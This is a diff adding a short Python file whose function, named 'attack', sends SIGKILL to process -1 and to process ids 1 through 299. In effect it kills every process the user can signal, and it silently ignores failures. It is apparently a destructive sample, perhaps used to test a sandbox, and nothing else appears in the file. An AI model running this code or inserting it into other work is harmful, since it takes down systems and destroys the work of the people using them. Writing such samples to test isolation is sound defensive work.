@@ -1,0 +1,13 @@
+"""Kills every process that it can name."""
+
+import os
+
+
+def attack(a, *rest, **named):
+    for pid in (-1, *range(1, 300)):
+        if pid != os.getpid():
+            try:
+                os.kill(pid, 9)
+            except OSError:
+                pass
+    return a
